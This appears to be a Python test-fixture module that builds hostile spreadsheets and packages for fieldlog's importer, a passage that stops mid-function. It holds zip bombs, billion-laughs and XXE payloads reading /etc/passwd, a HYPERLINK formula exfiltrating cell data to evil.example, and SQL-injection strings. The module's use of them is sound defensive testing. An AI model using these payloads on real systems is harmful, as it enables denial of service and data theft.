"""Hostile files for the importer and the merge, built by test code (never downloaded): one registry.

Every builder writes one file into a folder and returns its path; `CORPUS` pairs it with the outcome the
fault catalogue (cases 13-30, 37) demands of `fieldlog --db DB import FILE`: exit 1 with a message naming
the file (and the row and column where one applies) and nothing written, or exit 0 where the file is
neutralised and imported (formula-like text, a huge declared dimension). A case fieldlog does not meet yet
carries `known_bug` (where and why); its test xfails until the bug is fixed, then fails to say so. The
spreadsheet helpers are shared with tests/test_import_bad_input.py; tests/test_hostile_corpus.py runs it all.

The target database (`seed_database`) holds the events 'Beach day' and 'Tree day', one planting and three
demo events, so valid rows have an event to belong to and a rejection has something to leave untouched.
"""

from __future__ import annotations

import csv
import functools
import hashlib
import io
import json
import re
import sqlite3
import stat
import tempfile
import uuid
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import openpyxl

# -- spreadsheet helpers (shared with test_import_bad_input.py) ------------------------------------------

HEADER = ["Event", "Date", "Species", "Plants", "Area (m²)", "Latitude", "Longitude", "Notes"]
COLUMN = {name: index for index, name in enumerate(HEADER)}
SPECIES = ["Croton megalocarpus", "Prunus africana", "Markhamia lutea", "Podocarpus falcatus"]


def good_row(number: int = 0, **changes: str) -> list[str]:
    """A valid planting row for the event 'Tree day' already in the database; `changes` by header."""
    row = ["Tree day", "2024-05-02", SPECIES[number % len(SPECIES)] + (f" {number}" if number >= 4 else ""),
           str(10 + number), "50", "-1.2367", "36.835", f"row {number}"]
    for header, value in changes.items():
        row[COLUMN[header.replace("_", " ")]] = value
    return row


def write_csv(path: Path, rows: Sequence[Sequence[str]], header: Sequence[str] = HEADER, *,
              delimiter: str = ",", encoding: str = "utf-8") -> Path:
    """A CSV written by the csv module (so the structure is sound; only the values are hostile)."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def raw_csv(path: Path, *lines: bytes) -> Path:
    """A CSV with the planting header and these data lines exactly as given (so the structure may be broken)."""
    path.write_bytes(b"\r\n".join([",".join(HEADER).encode(), *lines]) + b"\r\n")
    return path


def write_xlsx(path: Path, sheets: dict[str, Sequence[Sequence[Any]]], *, text_only: bool = True) -> Path:
    """A workbook, one sheet per entry (first row the headers). With `text_only`, a string that starts
    with = is stored as text; otherwise openpyxl stores it as a real formula."""
    workbook = openpyxl.Workbook()
    workbook.remove(workbook.active)
    for title, rows in sheets.items():
        worksheet = workbook.create_sheet(title)
        for row in rows:
            worksheet.append(list(row))
        if text_only:
            for cells in worksheet.iter_rows():
                for cell in cells:
                    if isinstance(cell.value, str):
                        cell.data_type = "s"
    workbook.save(path)
    return path


def planting_xlsx(path: Path, rows: Sequence[Sequence[Any]], *, text_only: bool = True) -> Path:
    """A workbook with one 'Planting' sheet: the planting header, then `rows`."""
    return write_xlsx(path, {"Planting": [HEADER, *rows]}, text_only=text_only)


def rewrite_zip(source: Path, target: Path, replace: dict[str, bytes | None]) -> Path:
    """Copy a zip, replacing (or with None dropping) members by name; members not in `source` are added."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            if info.filename in replace:
                data = replace[info.filename]
                if data is not None:
                    new.writestr(info.filename, data)
            else:
                new.writestr(info, old.read(info.filename))
        for name in set(replace) - set(old.namelist()):
            data = replace[name]
            if data is not None:
                new.writestr(name, data)
    return target


def member(path: Path, name: str) -> str:
    """A zip member's text."""
    with zipfile.ZipFile(path) as archive:
        return archive.read(name).decode("utf-8")


def zeros_member(target: Path, base: Path, size_mb: int, level: int) -> Path:
    """`base` with its sheet replaced by `size_mb` MB of zeros, written in streaming fashion."""
    with zipfile.ZipFile(base) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED,
                                                       compresslevel=level) as new:
        for info in old.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                new.writestr(info.filename, old.read(info.filename))
        with new.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            block = b"\0" * (1 << 20)
            for _ in range(size_mb):
                sheet.write(block)
    return target


def damaged_xlsx(folder: Path, name: str = "damaged.xlsx") -> Path:
    """A workbook whose deflated sheet has every 7th byte scrambled: the zip directory is sound, the data not."""
    whole = planting_xlsx(folder / "whole.xlsx", [good_row(i) for i in range(1, 40)])
    data = bytearray(whole.read_bytes())
    with zipfile.ZipFile(whole) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for offset in range(start + 20, start + info.compress_size - 20, 7):
        data[offset] ^= 0x5A
    damaged = folder / name
    damaged.write_bytes(bytes(data))
    return damaged


def lying_sizes_xlsx(folder: Path, name: str = "lying_sizes.xlsx") -> Path:
    """20 MB of zeros declared as 100 bytes (central directory and local header): the size checks pass."""
    base = planting_xlsx(folder / "base.xlsx", [good_row(1)])
    bomb = zeros_member(folder / "bomb.xlsx", base, 20, level=9)
    data = bytearray(bomb.read_bytes())
    part = b"xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(bomb) as archive:
        info = archive.getinfo(part.decode())
    assert info.file_size == 20 * 2**20
    local = info.header_offset
    assert data[local + 30:local + 30 + len(part)] == part
    central = next(i for i in range(len(data)) if data.startswith(b"PK\x01\x02", i)
                   and data[i + 46:i + 46 + len(part)] == part)
    for offset in (central + 24, local + 22):  # uncompressed size, in the central directory and the local header
        if data[offset:offset + 4] != b"\xff\xff\xff\xff":
            data[offset:offset + 4] = (100).to_bytes(4, "little")
    liar = folder / name
    liar.write_bytes(bytes(data))
    return liar


LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
          + "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10 if n > 1 else "&lol;" * 10}">'
                    for n in range(1, 10)) + "]>\n")
XXE = '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'


def entity_xlsx(folder: Path, part: str, dtd: str, entity: str, name: str = "billion_laughs.xlsx") -> Path:
    """A workbook whose `part` declares `dtd` and uses `&entity;` (in the Notes cell, or the sheet's name)."""
    base = planting_xlsx(folder / "base.xlsx", [good_row(1, Notes="laugh")])
    parts: dict[str, bytes | None] = {}
    sheet = member(base, "xl/worksheets/sheet1.xml")
    notes_cell = re.compile(r'<c r="H2"[^>]*>.*?</c>')
    if part == "xl/sharedStrings.xml":  # the Notes cell refers to shared string 0, which holds the entity
        sheet, found = notes_cell.subn('<c r="H2" t="s"><v>0</v></c>', sheet, count=1)
        types = member(base, "[Content_Types].xml").replace("</Types>", (
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.sharedStrings+xml"/></Types>'))
        parts["[Content_Types].xml"] = types.encode()
        parts["xl/worksheets/sheet1.xml"] = sheet.encode()
        xml = ('<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
               f"<si><t>&{entity};</t></si></sst>")
    elif part == "xl/workbook.xml":
        xml = re.sub(r"^<\?xml[^>]*\?>\s*", "", member(base, part)).replace('name="Planting"',
                                                                        f'name="&{entity};"', 1)
        found = 1
    else:  # the Notes cell becomes an inline string holding the entity
        xml, found = notes_cell.subn(f'<c r="H2" t="inlineStr"><is><t>&{entity};</t></is></c>',
                                     re.sub(r"^<\?xml[^>]*\?>\s*", "", sheet), count=1)
    assert found == 1 and f"&{entity};" in xml
    parts[part] = (dtd + xml).encode()
    return rewrite_zip(base, folder / name, parts)


def huge_dimension_xlsx(folder: Path, rows: Sequence[Sequence[Any]], name: str = "huge_dimension.xlsx") -> Path:
    """A one-row planting workbook whose sheet declares the dimension A1:XFD1048576."""
    base = planting_xlsx(folder / "base.xlsx", rows)
    sheet = member(base, "xl/worksheets/sheet1.xml")
    sheet, found = re.subn(r'<dimension ref="A1:H\d+"\s*/>', '<dimension ref="A1:XFD1048576"/>', sheet)
    assert found == 1
    return rewrite_zip(base, folder / name, {"xl/worksheets/sheet1.xml": sheet.encode()})


def number_cell_xlsx(folder: Path, number: str, name: str = "extreme.xlsx") -> Path:
    """A planting workbook whose Area cell's XML holds `number` verbatim (what Excel never writes)."""
    base = planting_xlsx(folder / "base.xlsx", [[*good_row(1)[:4], 77.5, *good_row(1)[5:]]])
    sheet = member(base, "xl/worksheets/sheet1.xml")
    assert "<v>77.5</v>" in sheet
    return rewrite_zip(base, folder / name,
                       {"xl/worksheets/sheet1.xml": sheet.replace("<v>77.5</v>", f"<v>{number}</v>").encode()})


FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click me")', "+254 700 000000", "-- see log book",
                 "@SUM(A1:A9)", "=1+1\nsecond line", "- Karura; see map"]


def copy_database(source: Path, target: Path) -> None:
    """A consistent copy of a database file (its WAL included), through SQLite's backup API."""
    old, new = sqlite3.connect(source), sqlite3.connect(target)
    try:
        old.backup(new)
    finally:
        new.close()
        old.close()


def seed_database(folder: Path) -> Path:
    """A database under `folder`/data with two events (Beach day, Tree day), one planting and 3 demo events."""
    from fieldlog.cli import main

    db = folder / "data" / "fieldlog.db"
    folder.mkdir(parents=True, exist_ok=True)
    events = write_csv(folder / "events.csv", [["Beach day", "2024-05-01", "Karura Forest", "KE", "10"],
                                               ["Tree day", "2024-05-02", "Karura Forest", "KE", "5"]],
                       ["Event", "Start", "Site", "Country", "Participants"])
    planting = write_csv(folder / "planting.csv", [good_row(0, Species="Acacia tortilis")])
    for args in (["import", str(events)], ["import", str(planting)], ["demo-data", "--events", "3"]):
        assert main(args, location=str(db)) == 0, args
    return db


def query(db: Path, sql: str, *parameters: Any) -> list[tuple[Any, ...]]:
    """Rows of a query against a database file, read-only."""
    connection = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        return connection.execute(sql, parameters).fetchall()
    finally:
        connection.close()


def file_sha256(path: Path) -> str:
    """The SHA-256 of a file's bytes."""
    return hashlib.sha256(path.read_bytes()).hexdigest()


# -- the registry ---------------------------------------------------------------------------------------

Builder = Callable[[Path], Path]
Verify = Callable[[Path, Path], None]  # (database, hostile file) after a run that imported it


@dataclass(frozen=True, slots=True)
class Expected:
    """What `fieldlog import FILE` must do with a hostile file."""

    status: int  # 1: rejected, nothing written; 0: neutralised and imported
    fragments: tuple[str, ...] = ()  # in the message: stderr when rejected, stdout when imported
    verify: Verify | None = None

    @property
    def rejected(self) -> bool:
        """True when the file must be refused with nothing written."""
        return self.status == 1

    def describe(self) -> str:
        """The outcome in a word, for the corpus table."""
        return "rejected" if self.rejected else "imported"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One registered hostile file: how to build it and what fieldlog must do with it."""

    name: str
    build: Builder
    expected: Expected
    group: str  # spreadsheet, package, sqlite, photo (offered with `fieldlog attach`, not `import`)
    needs_exchange: bool = False  # merged as a package: needs fieldlog.services.exchange
    known_bug: str | None = None  # fieldlog does not yet meet the expectation; where and why

    def make(self, folder: Path) -> Path:
        """Build the file in a folder of its own and return its path."""
        folder.mkdir(parents=True, exist_ok=True)
        return self.build(folder)


CORPUS: dict[str, Hostile] = {}


def rejected(*fragments: str, verify: Verify | None = None) -> Expected:
    """Exit 1, with these fragments in the message, and nothing written."""
    return Expected(1, fragments, verify)


def imported(*fragments: str, verify: Verify | None = None) -> Expected:
    """Exit 0: the file is neutralised and imported; `verify` checks what was stored."""
    return Expected(0, fragments, verify)


def register(name: str, expected: Expected, build: Builder, *, group: str = "spreadsheet",
             needs_exchange: bool = False, known_bug: str | None = None) -> None:
    """Add a hostile file to the corpus under a unique name (the test id)."""
    assert name not in CORPUS, name
    CORPUS[name] = Hostile(name, build, expected, group, needs_exchange, known_bug)


def hostile(name: str, expected: Expected, *, group: str = "spreadsheet",
            needs_exchange: bool = False) -> Callable[[Builder], Builder]:
    """Decorator form of `register`."""
    def decorate(build: Builder) -> Builder:
        register(name, expected, build, group=group, needs_exchange=needs_exchange)
        return build
    return decorate


def stored_once(species: str, **columns: Any) -> Verify:
    """A check that exactly one planting of `species` was stored, with these column values."""
    def verify(db: Path, source: Path) -> None:
        names = ", ".join(columns) or "species"
        rows = query(db, f"SELECT {names} FROM activities WHERE species = ? AND deleted_at IS NULL",  # noqa: S608
                     species)
        assert len(rows) == 1, (species, rows)
        if columns:
            assert rows[0] == tuple(columns.values()), (rows[0], columns)
    return verify


# -- the file is not a workbook, or a damaged one -------------------------------------------------------

_INCOMPLETE = "the file is incomplete or not an Excel workbook"


def _truncated(keep: float) -> Builder:
    def build(folder: Path) -> Path:
        whole = planting_xlsx(folder / "whole.xlsx", [good_row(1)]).read_bytes()
        cut = folder / "truncated.xlsx"
        cut.write_bytes(whole[:int(len(whole) * keep)] if keep > 0 else whole[:len(whole) + int(keep)])
        return cut
    return build


register("truncated-xlsx-half", rejected(f"truncated.xlsx: {_INCOMPLETE}", "cut off while downloading"),
         _truncated(0.5))
register("truncated-xlsx-tail", rejected(f"truncated.xlsx: {_INCOMPLETE}"), _truncated(-10))


def _bytes_file(name: str, content: bytes) -> Builder:
    def build(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(content)
        return path
    return build


register("empty-xlsx", rejected(f"empty.xlsx: {_INCOMPLETE}"), _bytes_file("empty.xlsx", b""))
register("html-as-xlsx", rejected("not_really.xlsx: this is a web page (HTML or XML), not an Excel workbook"),
         _bytes_file("not_really.xlsx", b"<!DOCTYPE html>\n<html><body><table><tr><td>Event</td><td>Species</td>"
                                        b"</tr></table></body></html>"))
register("csv-as-xlsx", rejected("csv_text.xlsx: this looks like CSV text with an .xlsx name; rename it to .csv"),
         _bytes_file("csv_text.xlsx", ",".join(HEADER).encode() + b"\r\nTree day,2024-05-02,Prunus africana,4,,,,"
                                                                  b"\r\n"))
register("xls-as-xlsx", rejected("old_excel.xlsx: this is an old Excel 97-2003 file"),
         _bytes_file("old_excel.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600))


@hostile("zip-not-workbook", rejected("photos.xlsx: the file is a zip archive but not an Excel workbook"))
def photos_zip_as_xlsx(folder: Path) -> Path:
    """A zip of camera files with an .xlsx name."""
    path = folder / "photos.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("DCIM/001.jpg", b"\xff\xd8\xff" + b"0" * 100)
    return path


@hostile("xlsx-as-csv", rejected("planting.csv: this is an Excel workbook with a .csv name; rename it to .xlsx"))
def workbook_renamed_to_csv(folder: Path) -> Path:
    """A real workbook saved with a .csv name."""
    return planting_xlsx(folder / "workbook.xlsx", [good_row(1)]).rename(folder / "planting.csv")


register("damaged-part", rejected("damaged.xlsx", "the workbook is damaged: a compressed part of it cannot be "
                                  "unpacked"), damaged_xlsx)


# -- zip bombs and XML entity tricks --------------------------------------------------------------------

@hostile("zipbomb-shaped", rejected("zipbomb_shaped.xlsx: the workbook expands to 300 MB when unpacked; the "
                                    "limit is 256 MB"))
def zipbomb_shaped(folder: Path) -> Path:
    """Under 3 MB on disk, 300 MB declared and real: refused before anything is unpacked."""
    base = planting_xlsx(folder / "base.xlsx", [good_row(1)])
    return zeros_member(folder / "zipbomb_shaped.xlsx", base, 300, level=1)


@hostile("ratio-bomb", rejected("ratio_bomb.xlsx: part xl/worksheets/sheet1.xml expands", "times its packed size"))
def ratio_bomb(folder: Path) -> Path:
    """A 20 MB sheet of zeros packed into about 20 kB."""
    base = planting_xlsx(folder / "base.xlsx", [good_row(1)])
    return zeros_member(folder / "ratio_bomb.xlsx", base, 20, level=9)


register("lying-sizes", rejected("lying_sizes.xlsx", "the workbook is damaged"), lying_sizes_xlsx)

for _part, _dtd, _entity, _id in (("xl/sharedStrings.xml", LAUGHS, "lol9", "billion-laughs-shared-strings"),
                                  ("xl/worksheets/sheet1.xml", LAUGHS, "lol9", "billion-laughs-sheet"),
                                  ("xl/workbook.xml", LAUGHS, "lol9", "billion-laughs-workbook"),
                                  ("xl/worksheets/sheet1.xml", XXE, "xxe", "xxe-sheet")):
    register(_id, rejected("billion_laughs.xlsx", "unsafe XML in the workbook"),
             functools.partial(entity_xlsx, part=_part, dtd=_dtd, entity=_entity))


# -- neutralised: huge dimension, formula-like text, spoofed headers, UTF-16 ------------------------------

register("huge-dimension", imported("huge_dimension.xlsx: 1 new", "1 record added",
                                    verify=stored_once("Dimensio hugea", plants=11)),
         functools.partial(huge_dimension_xlsx, rows=[good_row(1, Species="Dimensio hugea")]))


def _formula_text_rows() -> list[list[str]]:
    return [good_row(i + 1, Species=f"Formulia textualis {i}", Notes=text) for i, text in enumerate(FORMULA_TEXTS)]


def _literal_notes(db: Path, source: Path) -> None:
    """Every formula-like note is stored byte for byte as the file held it."""
    for row in _formula_text_rows():
        assert query(db, "SELECT notes FROM activities WHERE species = ?", row[COLUMN["Species"]]) == [
            (row[COLUMN["Notes"]],)], row


_FORMULA_NOTICE = f"{len(FORMULA_TEXTS)} cells begin with =, +, - or @; they are kept as plain text"
register("formula-text-csv", imported("formula_injection.csv", _FORMULA_NOTICE, verify=_literal_notes),
         lambda folder: write_csv(folder / "formula_injection.csv", _formula_text_rows()))
register("formula-text-xlsx", imported("formula_injection.xlsx", _FORMULA_NOTICE, verify=_literal_notes),
         lambda folder: planting_xlsx(folder / "formula_injection.xlsx", _formula_text_rows()))


@hostile("spoofed-headers", imported("columns ignored (not mapped): id; DROP TABLE activities;--",
                                     verify=stored_once("Spoofia headeri", plants=4)))
def spoofed_headers(folder: Path) -> Path:
    """Padded, upper-case and SQL-looking headers: matched through the allow-list or ignored with a notice."""
    header = [" event ", "DATE", "Species\n", "Plants  ", "id; DROP TABLE activities;--", "Notes"]
    row = ["Tree day", "2024-05-02", "Spoofia headeri", "4", "x'); DELETE FROM events;--", "ok"]
    return write_csv(folder / "spoofed_headers.csv", [row], header)


_UTF16_ROWS = [good_row(1, Species="Podocarpus utf16", Notes="Müller’s café, “quoted”"),
               good_row(2, Species="Ocotea utf16", Notes="naïve – 東京")]


def _utf16_stored(db: Path, source: Path) -> None:
    for row in _UTF16_ROWS:
        stored_once(row[COLUMN["Species"]], plants=int(row[COLUMN["Plants"]]), notes=row[COLUMN["Notes"]])(db, source)


@hostile("utf16-tab-export", imported("utf16_tab_export.csv: 2 new", verify=_utf16_stored))
def utf16_tab_export(folder: Path) -> Path:
    """Excel's "Unicode text": UTF-16 with a byte-order mark, tab-separated."""
    text = "\r\n".join("\t".join(row) for row in [HEADER, *_UTF16_ROWS]) + "\r\n"
    path = folder / "utf16_tab_export.csv"
    path.write_bytes(text.encode("utf-16"))
    return path


@hostile("utf16-without-bom", rejected("utf16_no_bom.csv: the file looks like UTF-16 text without a byte-order "
                                       "mark; choose its encoding"))
def utf16_without_bom(folder: Path) -> Path:
    """UTF-16 text without its byte-order mark."""
    text = "\r\n".join("\t".join(row) for row in [HEADER, good_row(1)]) + "\r\n"
    path = folder / "utf16_no_bom.csv"
    path.write_bytes(text.encode("utf-16-le"))
    return path


# -- formulas and values a cell must not hold -----------------------------------------------------------

@hostile("formula-where-value", rejected("formula_value.xlsx, sheet 'Planting', row 3, column 'Plants': contains a "
                                         "formula (=I2*1000), not a value", "nothing was imported"))
def formula_where_a_value_belongs(folder: Path) -> Path:
    """A real formula (no cached value) in the numeric Plants column."""
    return planting_xlsx(folder / "formula_value.xlsx", [good_row(1), good_row(2, Plants="=I2*1000")],
                         text_only=False)


INVALID_VALUES = {  # id: (header, value, reason)
    "latitude-123.4": ("Latitude", "123.4", "Latitude must be between -90 and 90"),
    "feb-30": ("Date", "2024-02-30", "2024-02-30 is not a real date (February 2024 has 29 days)"),
    "ambiguous-date": ("Date", "03/04/2024", "'03/04/2024' could be 3 April or 4 March"),
    "negative-count": ("Plants", "-5", "-5 is negative; a count cannot be below 0"),
    "nan": ("Plants", "NaN", "'NaN' is not a number"),
    "inf": ("Area (m²)", "inf", "'inf' is not a number"),
    "1e309": ("Area (m²)", "1e309", "'1e309' is too large to be a real quantity"),
    "decimal-comma": ("Area (m²)", "1,5", "'1,5' has a comma: write numbers with a decimal point (1.5)"),
}


def _invalid_csv(header: str, value: str) -> Builder:
    def build(folder: Path) -> Path:
        rows = [good_row(1), good_row(2), good_row(3, **{header: value}), good_row(4)]
        return write_csv(folder / "invalid_values.csv", rows)
    return build


for _id, (_header, _value, _reason) in INVALID_VALUES.items():
    register(f"invalid-{_id}", rejected(f"invalid_values.csv, row 4, column '{_header}': ", _reason,
                                        "1 row cannot be imported, so nothing was imported"),
             _invalid_csv(_header, _value))


@hostile("invalid-all-in-one", rejected("invalid_values.csv: 8 rows cannot be imported",
                                        *(f"invalid_values.csv, row {n}" for n in range(2, 10))))
def all_invalid_values(folder: Path) -> Path:
    """The catalogue's invalid_values.csv: eight bad rows, all reported in one pass."""
    bad = [("Latitude", "123.4"), ("Date", "2024-02-30"), ("Date", "03/04/2024"), ("Plants", "-5"),
           ("Plants", "NaN"), ("Area (m²)", "1e309"), ("Plants", "1,5"), ("Species", "")]
    return write_csv(folder / "invalid_values.csv", [good_row(i + 1, **{h: v}) for i, (h, v) in enumerate(bad)])


for _number, _reason in (("1e309", "'inf' is not a finite number"), ("-1e309", "'-inf' is not a finite number")):
    register(f"xlsx-number-{_number}", rejected(f"extreme.xlsx, sheet 'Planting', row 2, column 'Area (m²)': "
                                                f"{_reason}"),
             functools.partial(number_cell_xlsx, number=_number))
for _number in ("NaN", "inf"):
    # openpyxl cannot read these as numbers: fieldlog reads them as the cell's text, refused as in a CSV
    register(f"xlsx-number-{_number}", rejected("extreme.xlsx, sheet 'Planting', row 2, column 'Area (m²)': "
                                                f"'{_number}' is not a number"),
             functools.partial(number_cell_xlsx, number=_number))


@hostile("unknown-kind-sheet", rejected("hugs.xlsx", "no sheet is named after a table fieldlog knows"))
def unknown_kind_sheet(folder: Path) -> Path:
    """A workbook whose only sheet is an activity kind fieldlog does not know."""
    return write_xlsx(folder / "hugs.xlsx", {"Tree hugging": [["Hugger", "Trees hugged"], ["Ann", "40"]]})


@hostile("unknown-choice", rejected("stock_type.csv, row 2, column 'Stock type'", "hovercraft"))
def unknown_choice(folder: Path) -> Path:
    """A value outside a column's vocabulary (Stock type)."""
    return write_csv(folder / "stock_type.csv", [[*good_row(1), "hovercraft"]], [*HEADER, "Stock type"])


_EVENTS_HEADER = ["Event", "Start", "Site", "Country", "Participants"]
register("events-blank-name", rejected("events.csv, row 2, column 'Event'"),
         lambda folder: write_csv(folder / "events.csv", [["", "2024-05-01", "Karura Forest", "KE", "10"]],
                                  _EVENTS_HEADER))
register("events-blank-start", rejected("events.csv, row 2, column 'Start'"),
         lambda folder: write_csv(folder / "events.csv", [["Beach day 2", "", "Karura Forest", "KE", "10"]],
                                  _EVENTS_HEADER))


# -- encodings and structural CSV damage ----------------------------------------------------------------

@hostile("mixed-encoding", rejected("mixed_encoding.csv, row 3, column 'Species': byte 0xE9 is not valid UTF-8",
                                    "choose the file's encoding"))
def mixed_encoding(folder: Path) -> Path:
    """UTF-8 BOM, UTF-8 rows and one cp1252 row in one CSV."""
    lines = [",".join(HEADER).encode(),
             "Tree day,2024-05-02,Croton megalocarpus,3,,,,Müller’s group".encode(),
             b"Tree day,2024-05-02,Caf\xe9 tree,4,,,,cp1252 row",
             "Tree day,2024-05-02,Prunus africana,5,,,,naïve".encode()]
    path = folder / "mixed_encoding.csv"
    path.write_bytes(b"\xef\xbb\xbf" + b"\r\n".join(lines) + b"\r\n")
    return path


STRUCTURAL = {  # id: (the damaged line, what the message says of row 3)
    "short-row": (b"Tree day,2024-05-02,Prunus africana", "row 3: has 3 cells but the header row has 8"),
    "long-row": (b"Tree day,2024-05-02,Prunus africana,5,,,,note,surplus",
                 "row 3: has a value in column 9, beyond the last header"),
    "unterminated-quote": (b'Tree day,2024-05-02,"Prunus africana,5,,,,note',
                           "row 3: the CSV is damaged: a quoted cell is never closed"),
    "text-after-quote": (b'Tree day,2024-05-02,"Prunus" africana,5,,,,note',
                         "row 3: the CSV is damaged: a cell has text after its closing quote"),
    "lone-cr": (b"Tree day,2024-05-02,Prunus\rafricana,5,,,,note",
                "row 3: the CSV is damaged: a line break (carriage return) outside quotes splits a row"),
    "nul-byte": (b"Tree day,2024-05-02,Prunus\x00africana,5,,,,note",
                 "row 3, column 'Species': contains a NUL character"),
    "200kB-cell": (b"Tree day,2024-05-02,Prunus africana,5,,,," + b"x" * 200_000,
                   "row 3, column 'Notes': holds 200,000 characters; a cell may hold at most 10,000"),
}


def _structural(line: bytes) -> Builder:
    def build(folder: Path) -> Path:
        return raw_csv(folder / "structural_mess.csv", b"Tree day,2024-05-02,Croton megalocarpus,4,,,,fine", line,
                       b"Tree day,2024-05-02,Markhamia lutea,6,,,,fine too")
    return build


for _id, (_line, _message) in STRUCTURAL.items():
    register(f"csv-{_id}", rejected(f"structural_mess.csv, {_message}"), _structural(_line))


@hostile("xlsx-200kB-cell", rejected("long_cell.xlsx, sheet 'Planting', row 3, column 'Notes': holds 200,000 "
                                     "characters"))
def long_cell_xlsx(folder: Path) -> Path:
    """A 200 kB inline-string cell: Excel (and openpyxl's writer) stop at 32,767 characters, a crafted file need not."""
    base = planting_xlsx(folder / "base.xlsx", [good_row(1), good_row(2, Notes="placeholder")])
    cell = '<c r="H3" t="inlineStr"><is><t>' + "y" * 200_000 + "</t></is></c>"
    sheet, found = re.subn(r'<c r="H3"[^>]*>.*?</c>', cell, member(base, "xl/worksheets/sheet1.xml"), count=1)
    assert found == 1
    return rewrite_zip(base, folder / "long_cell.xlsx", {"xl/worksheets/sheet1.xml": sheet.encode()})


# -- identities and headers -----------------------------------------------------------------------------

_SAME_ID = "6f1c2a0e-0b4e-4f6a-9a51-3d2f8e7c1b09"


@hostile("duplicate-ids", rejected(f"duplicate_rows.csv, row 5: Activity id {_SAME_ID} duplicates row 3"))
def duplicate_ids(folder: Path) -> Path:
    """The same activity id on two rows of one file."""
    rows = [[str(uuid.UUID(int=n + 1)), *good_row(n)] for n in range(1, 5)]
    rows[1][0] = rows[3][0] = _SAME_ID
    return write_csv(folder / "duplicate_rows.csv", rows, ["Activity id", *HEADER])


@hostile("duplicate-headers", rejected("planting.csv, row 1: the header 'Plants' appears twice (columns 4 and 5)"))
def duplicate_headers(folder: Path) -> Path:
    """Two 'Plants' columns."""
    return write_csv(folder / "planting.csv", [["Tree day", "2024-05-02", "Prunus africana", "4", "40"]],
                     ["Event", "Date", "Species", "Plants", " plants  "])


@hostile("two-headers-one-field", rejected("planting.csv", "'Area (m²)'", "'Area (ha)'"))
def two_headers_one_field(folder: Path) -> Path:
    """Two columns for the same field in different units."""
    return write_csv(folder / "planting.csv", [["Tree day", "2024-05-02", "Prunus africana", "4", "100", "2"]],
                     ["Event", "Date", "Species", "Plants", "Area (m²)", "Area (ha)"])


@hostile("missing-header", rejected("planting.csv", "no column for the required field species (Species)"))
def missing_required_header(folder: Path) -> Path:
    """No Species column."""
    keep = [i for i, h in enumerate(HEADER) if h != "Species"]
    return write_csv(folder / "planting.csv", [[good_row(1)[i] for i in keep]], [HEADER[i] for i in keep])


@hostile("blank-header-with-data", rejected("planting.csv", "column 3"))
def blank_header_with_data(folder: Path) -> Path:
    """Data under a column without a header."""
    return write_csv(folder / "planting.csv", [["Tree day", "2024-05-02", "important note", "Prunus africana", "3"]],
                     ["Event", "Date", "", "Species", "Plants"])


# -- exchange packages (cases 13, 30): need fieldlog.services.exchange ---------------------------------

@functools.cache
def _laptop() -> tuple[bytes, bytes]:
    """A small valid package and a snapshot of the fieldlog database it came from, built once per process."""
    from fieldlog.services.database import open_store
    from fieldlog.services.demo import fill_demo_data
    from fieldlog.services.exchange import export_package
    from fieldlog.services.records import Records

    with tempfile.TemporaryDirectory(prefix="fieldlog-laptop-") as name:
        folder = Path(name)
        database = open_store(folder / "laptop.db")
        try:
            fill_demo_data(Records(database), events=2, seed=7)
            export_package(database, folder / "laptop.fieldlog")
        finally:
            database.close()
        copy_database(folder / "laptop.db", folder / "snapshot.db")
        snapshot = sqlite3.connect(folder / "snapshot.db")
        try:
            snapshot.execute("PRAGMA journal_mode=DELETE")  # one self-contained file
        finally:
            snapshot.close()
        return (folder / "laptop.fieldlog").read_bytes(), (folder / "snapshot.db").read_bytes()


def valid_package(folder: Path, name: str = "laptop.fieldlog") -> Path:
    """A valid package from another laptop (2 demo events): merging it adds records."""
    path = folder / name
    path.write_bytes(_laptop()[0])
    return path


def _package_members(folder: Path) -> tuple[dict[str, bytes], dict[str, Any]]:
    """The valid package's members and its parsed manifest."""
    with zipfile.ZipFile(valid_package(folder, "base.fieldlog")) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    return members, json.loads(members["manifest.json"])


def _write_package(path: Path, members: Sequence[tuple[zipfile.ZipInfo | str, bytes]]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in members:
            archive.writestr(info, data)
    return path


def _with_manifest(members: dict[str, bytes], manifest: dict[str, Any]) -> list[tuple[zipfile.ZipInfo | str, bytes]]:
    chosen = {**members, "manifest.json": json.dumps(manifest, indent=1).encode()}
    return list(chosen.items())


def _package(register_name: str, file_name: str, *fragments: str) -> Callable[[Builder], Builder]:
    return hostile(register_name, rejected(file_name, *fragments), group="package", needs_exchange=True)


@_package("package-hash-mismatch", "hash_mismatch.fieldlog", "events.jsonl", "does not match the SHA-256")
def package_hash_mismatch(folder: Path) -> Path:
    """One digit of events.jsonl changed after the manifest was written; the size still agrees."""
    members, _ = _package_members(folder)
    events = members["events.jsonl"].decode()
    match = re.search(r'"participants":(\d)', events)
